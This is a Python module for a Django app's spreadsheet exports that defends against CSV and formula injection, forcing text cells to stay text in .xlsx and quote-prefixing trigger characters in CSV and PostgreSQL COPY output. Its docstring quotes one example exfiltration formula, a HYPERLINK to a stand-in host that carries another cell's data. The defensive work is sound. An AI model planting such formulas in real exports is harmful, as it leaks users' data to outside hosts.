"""Spreadsheets whose text stays text: the one place every export writes .xlsx and CSV through.

A spreadsheet program runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula. Text an HTX manager typed (a street, a product's name) or a file someone
imported could then, in an officer's export, build a link that sends other rows away
(`=HYPERLINK("http://x.example/?s="&B2,"Xem")`), or worse. OWASP, "CSV Injection":
https://owasp.org/www-community/attacks/CSV_Injection. So:

- **.xlsx**: every text value is a string cell (openpyxl's `data_type = "s"`, written as an
  inline string), never a formula, whatever it starts with. Workbooks are made by
  `new_workbook()`: its write-only sheets type every appended text as text, and its `save`
  turns any text cell that openpyxl took for a formula (or an error such as "#N/A") back into
  text. Numbers, dates and booleans stay typed cells.
- **CSV**: a text value whose first character is one of FORMULA_TRIGGERS gets a single quote
  in front (`=1+1` → `'=1+1`), as OWASP says. Only text is marked: a number is written as a
  number (-5 stays `-5`), but the *text* "-5" (a phone number "+84…", a code) gets the quote.
  Text that already starts with quotes before a trigger (`'=x`) gets one more, so that
  reading drops exactly one quote (`csv_restore`) and an export read back by our import gives
  the very text it was written from. PostgreSQL's COPY writes the same bytes through
  `sql_csv_neutralise`.

Writers must not make an openpyxl `Workbook`, a `csv.writer` or a `COPY … TO STDOUT`
themselves: `hoptac/core/tests/test_spreadsheet_safety.py` scans the code for them, and
`hoptac/core/tests/test_export_injection.py` downloads every export with hostile text.
"""

from __future__ import annotations

import csv
import functools
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from django.db.models import Expression, QuerySet
    from openpyxl.cell import Cell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_MARK = "'"
# The same test as csv_neutralise, for PostgreSQL (the tab and carriage return are the
# characters themselves): optional quotes, then a trigger, at the start.
_SQL_TRIGGER_PATTERN = "^(" + CSV_MARK + "*[-=+@\t\r])"
# Text openpyxl would not type as a string: formulas and error codes ("#N/A").
_OPENPYXL_NOT_TEXT = ("=", "#")


# --- CSV --------------------------------------------------------------------------------------


def csv_needs_mark(text: str) -> bool:
    """Whether spreadsheet programs could read `text` as a formula (after any quotes)."""
    return text.lstrip(CSV_MARK).startswith(FORMULA_TRIGGERS)


def csv_neutralise(text: str) -> str:
    """`text` as a CSV cell may hold it: a quote in front when it starts with a trigger."""
    return CSV_MARK + text if csv_needs_mark(text) else text


def csv_restore(text: str) -> str:
    """The text csv_neutralise was given: the one quote it added dropped (an import of our own
    CSV gets the text back); any other text unchanged."""
    if text.startswith(CSV_MARK) and csv_needs_mark(text):
        return text[1:]
    return text


def csv_plain(value: Any) -> str:
    """A typed value as CSV text: ISO dates (read by Excel in any locale), plain numbers,
    TRUE/FALSE; None as an empty cell. Text is returned as it is (csv_cell marks it)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return str(value.quantize(Decimal(1))) if value == value.to_integral_value() else str(value)
    return str(value)


def csv_cell(value: Any) -> str:
    """A value as a CSV cell: text neutralised, anything else written as csv_plain does."""
    if isinstance(value, str):
        return csv_neutralise(value)
    return csv_plain(value)


class _Echo:
    """A file-like object whose write returns what it was given (for csv.writer)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any],
    title_rows: Sequence[Sequence[Any]] = (),
    delimiter: str = ",",
) -> Iterator[str]:
    """CSV text, line by line, starting with a UTF-8 BOM (so that Excel reads the Vietnamese
    letters right), every cell through csv_cell: for a StreamingHttpResponse or a file."""
    writer = csv.writer(_Echo(), delimiter=delimiter)
    yield "\ufeff"
    for title in title_rows:
        yield writer.writerow([csv_cell(v) for v in title])
    yield writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def sql_csv_neutralise(expression: Expression) -> Expression:
    """A text expression as csv_neutralise would write its value, in SQL, for CSV written by
    COPY: PostgreSQL's regexp_replace, asked only of values whose first character is a
    trigger or a quote (an integer test on ascii(): over a million rows the regular
    expression on every value would double the query's time). NULL stays NULL."""
    from django.db.models import Case, Func, TextField, Value, When
    from django.db.models.functions import Ord
    from django.db.models.lookups import In

    text = TextField()
    marked = Func(
        expression,
        Value(_SQL_TRIGGER_PATTERN),
        Value(CSV_MARK + "\\1"),
        function="regexp_replace",
        output_field=text,
    )
    first = In(Ord(expression), [ord(c) for c in (*FORMULA_TRIGGERS, CSV_MARK)])
    return Case(When(first, then=marked), default=expression, output_field=text)


def copy_csv_rows(rows: QuerySet[Any]) -> Iterator[bytes]:
    """The rows of `rows` (a PostgreSQL `values()` queryset whose text columns went through
    sql_csv_neutralise) as CSV bytes written by `COPY (SELECT …) TO STDOUT WITH CSV`, one row
    at a time, each line ending in "\\r\\n" as csv_lines writes it (no BOM, no header)."""
    from django.db import connections

    sql, params = rows.query.sql_with_params()
    connection = connections[rows.db]
    with (
        connection.cursor() as cursor,
        cursor.cursor.copy(f"COPY ({sql}) TO STDOUT WITH (FORMAT csv)", params) as copy,
    ):
        for data in copy:
            row = bytes(data)
            yield row[:-1] + b"\r\n" if row.endswith(b"\n") else row


# --- .xlsx ------------------------------------------------------------------------------------


def _as_text(cell: Cell) -> Cell:
    """`cell` typed as a string when it holds text (openpyxl makes "=…" a formula and "#N/A"
    an error)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def xlsx_cell(sheet: Any, value: Any, *, number_format: str | None = None) -> Cell:
    """A cell for `sheet` (either mode) holding `value`: text as a string cell, anything else
    typed as openpyxl types it; with `number_format` when given."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if number_format:
        cell.number_format = number_format
    return _as_text(cell)


def xlsx_put(sheet: Any, row: int, column: int, value: Any) -> Cell:
    """Set a cell of a (not write-only) sheet to `value`, text as text."""
    cell = sheet.cell(row=row, column=column)
    cell.value = value
    return _as_text(cell)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """`values` as a row to append to `sheet`: text as string cells, the rest as given.

    openpyxl types text as a string unless it starts with "=" (a formula) or is an error
    code ("#N/A", "#REF!"…): only those become cells of our own (a cell each costs time over
    a million rows); cells given are typed as text when they hold text."""
    from openpyxl.cell import Cell

    out: list[Any] = []
    for value in values:
        if isinstance(value, Cell):
            out.append(_as_text(value))
        elif isinstance(value, str) and value.startswith(_OPENPYXL_NOT_TEXT):
            out.append(xlsx_cell(sheet, value))
        else:
            out.append(value)
    return out


@functools.cache
def _workbook_class() -> type:
    """TextWorkbook, made on first use (openpyxl is imported only when a file is written)."""
    from openpyxl import Workbook
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    class TextWriteOnlyWorksheet(WriteOnlyWorksheet):
        """A write-only sheet whose every appended text is a string cell."""

        def append(self, row: Iterable[Any]) -> None:
            super().append(xlsx_row(self, row))

    class TextWorkbook(Workbook):
        """An openpyxl Workbook that never holds a formula: see the module's docstring."""

        def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
            if not self.write_only:
                return super().create_sheet(title, index)
            sheet = TextWriteOnlyWorksheet(parent=self, title=title)
            self._add_sheet(sheet=sheet, index=index)
            return sheet

        def save(self, filename: Any) -> None:
            if not self.write_only:
                for sheet in self.worksheets:
                    for row in sheet.iter_rows():
                        for cell in row:
                            _as_text(cell)
            super().save(filename)

    return TextWorkbook


def new_workbook(*, write_only: bool = False) -> Any:
    """A workbook to export into (write-only for long lists: memory stays flat): an openpyxl
    Workbook whose write-only sheets append text as string cells and whose `save` turns any
    text cell openpyxl typed as a formula back into text."""
    return _workbook_class()(write_only=write_only)
